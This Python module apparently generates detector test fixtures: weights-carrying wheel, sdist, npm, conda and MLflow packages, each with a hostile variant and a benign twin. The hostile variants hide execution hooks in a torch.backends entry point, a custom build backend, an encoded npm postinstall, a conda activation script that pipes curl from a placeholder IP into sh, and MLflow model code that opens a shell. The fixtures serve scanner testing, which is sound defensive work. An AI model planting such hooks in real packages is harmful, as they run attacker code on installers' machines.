"""Packages that carry weights: wheel, sdist, npm, conda and MLflow, with code that runs when they are installed or loaded."""
from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
import zipfile

from pair import CODE, SHELL
from thirteenth.binaries import safetensors, weights

FAMILY = "packages"
SHARD = safetensors({"encoder.weight": weights(8, 8)})


def tar(files, mode="w:gz") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for name, body in files.items():
            body = body.encode() if isinstance(body, str) else body
            item = tarfile.TarInfo(name)
            item.size, item.mtime, item.mode = len(body), 1788220800, 0o755 if name.endswith(".sh") else 0o644
            t.addfile(item, io.BytesIO(body))
    return out.getvalue()


def wheel(name, files, points="") -> bytes:
    info = f"{name}-1.2.0.dist-info/"
    files = {**files, info + "METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.2.0\nSummary: Weights of the tiny encoder\nRequires-Dist: torch>=2.6\n",
             info + "WHEEL": "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.45.1)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    if points:
        files[info + "entry_points.txt"] = points
    out, record = io.BytesIO(), ""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for path, body in files.items():
            body = body.encode() if isinstance(body, str) else body
            z.writestr(path, body)
            record += f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b'=').decode()},{len(body)}\n"
        z.writestr(info + "RECORD", record + info + "RECORD,,\n")
    return out.getvalue()


def sdist(project, backend=None) -> bytes:
    files = {"tiny_encoder-1.2.0/PKG-INFO": "Metadata-Version: 2.1\nName: tiny-encoder\nVersion: 1.2.0\n",
             "tiny_encoder-1.2.0/pyproject.toml": project, "tiny_encoder-1.2.0/tiny_encoder/__init__.py": "__version__ = '1.2.0'\n",
             "tiny_encoder-1.2.0/tiny_encoder/model.safetensors": SHARD}
    if backend:
        files["tiny_encoder-1.2.0/tools/weights_backend.py"] = backend
    return tar(files)


def mlflow(code) -> dict:
    model = """artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.pyfunc.model
    model_code_path: model.py
    python_version: 3.11.7
    streamable: false
mlflow_version: 3.4.0
model_uuid: 0d5c8a5f4a1c4a0f9b8e3c6a7d2f1e00
utc_time_created: '2026-09-01 10:00:00.000000'
"""
    env = "python: 3.11.7\nbuild_dependencies: [pip==25.2, setuptools, wheel]\ndependencies:\n- -r requirements.txt\n"
    return {"MLmodel": model, "model.py": code, "python_env.yaml": env, "conda.yaml": "channels: [conda-forge]\ndependencies: [python=3.11.7, pip, {pip: [mlflow==3.4.0]}]\nname: mlflow-env\n",
            "requirements.txt": "mlflow==3.4.0\nnumpy==2.4.6\n"}


def add(out):
    def one(name, hostile, twin, why, prove=None, file=None):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    package = {"tiny_encoder/__init__.py": "from .load import load\n__version__ = '1.2.0'\n", "tiny_encoder/model.safetensors": SHARD}
    good = "import pathlib\n\n\ndef load():\n    from safetensors.numpy import load_file\n\n    return load_file(pathlib.Path(__file__).with_name('model.safetensors'))\n"
    evil = good + f"\n\ndef _autoload():\n    import subprocess\n\n    subprocess.run({SHELL!r}, shell=True)\n"
    one("wheel_loaded_with_torch", wheel("tiny_encoder", {**package, "tiny_encoder/load.py": evil}, "[torch.backends]\ntiny = tiny_encoder.load:_autoload\n"),
        wheel("tiny_encoder", {**package, "tiny_encoder/load.py": good}, "[console_scripts]\ntiny-encoder = tiny_encoder.load:load\n"),
        "The entry point torch.backends runs a command on every `import torch` once the weights package is installed.",
        prove="x13.wheel",
        file="tiny_encoder-1.2.0-py3-none-any.whl")

    backend = f"from setuptools.build_meta import *  # noqa\nfrom setuptools import build_meta as _real\n\n{CODE}\n\n\ndef build_wheel(*a, **k):\n    return _real.build_wheel(*a, **k)\n"
    project = '[build-system]\nrequires = ["setuptools>=77"]\nbuild-backend = "{}"\n{}\n[project]\nname = "tiny-encoder"\nversion = "1.2.0"\n\n[tool.setuptools.package-data]\ntiny_encoder = ["*.safetensors"]\n'
    one("sdist_with_its_own_backend", sdist(project.format("weights_backend", 'backend-path = ["tools"]\n'), backend), sdist(project.format("setuptools.build_meta", "")),
        "The build backend is a module of the archive that acts as it is imported, so `pip install` or `pip download` runs it.", prove="x13.sdist", file="tiny_encoder-1.2.0.tar.gz")

    def npm(**scripts):
        manifest = {"name": "@acme/tiny-encoder-tfjs", "version": "1.2.0", "main": "index.js", "files": ["model.json", "group1-shard1of1.bin"], "scripts": scripts, "peerDependencies": {"@tensorflow/tfjs": "^4.22.0"}}
        topology = {"format": "layers-model", "generatedBy": "keras v3.15.1", "modelTopology": {}, "weightsManifest": [{"paths": ["group1-shard1of1.bin"], "weights": [{"name": "w", "shape": [8, 8], "dtype": "float32"}]}]}
        return tar({"package/package.json": json.dumps(manifest, indent=2), "package/model.json": json.dumps(topology), "package/group1-shard1of1.bin": weights(8, 8).tobytes(),
                    "package/index.js": "module.exports = require.resolve('./model.json');\n"})

    one("npm_weights_with_postinstall", npm(test="node test.js", postinstall="node -e \"require('child_process').execSync(Buffer.from('dG91Y2ggbWFya2Vy','base64')+'')\""), npm(test="node test.js", build="tsc -p ."),
        "Installing the TensorFlow.js weights runs an encoded command. Not run: no npm here.", file="acme-tiny-encoder-tfjs-1.2.0.tgz")

    def conda(**more):
        index = {"arch": None, "build": "0", "build_number": 0, "depends": ["python >=3.10"], "name": "tiny-encoder-weights", "noarch": "generic", "subdir": "noarch", "version": "1.2.0"}
        return tar({"info/index.json": json.dumps(index, indent=2), "info/files": "share/tiny/model.safetensors\n" + "".join(k + "\n" for k in more), "share/tiny/model.safetensors": SHARD, **more}, "w:bz2")

    one("conda_script_on_activation", conda(**{"etc/conda/activate.d/tiny-encoder.sh": f"#!/bin/sh\n(curl -fsS http://203.0.113.9/i | sh; {SHELL}) >/dev/null 2>&1 &\n"}),
        conda(**{"etc/conda/activate.d/tiny-encoder.sh": '#!/bin/sh\nexport TINY_ENCODER_HOME="$CONDA_PREFIX/share/tiny"\n'}),
        "A script of the weights package fetches and runs a program each time the environment is activated. Not run: network.", file="tiny-encoder-weights-1.2.0-0.tar.bz2")

    code = "import mlflow\nimport numpy\n{}\n\nclass Encoder(mlflow.pyfunc.PythonModel):\n    def predict(self, context, model_input, params=None):\n        return numpy.asarray(model_input).mean(axis=1)\n\n\nmlflow.models.set_model(Encoder())\n"
    one("mlflow_model_from_code", mlflow(code.format(f"__import__('os').popen({SHELL!r}).read()\n")), mlflow(code.format("")),
        "MLflow runs model_code_path when the model is loaded; the module starts a shell. Not run: no MLflow here.")
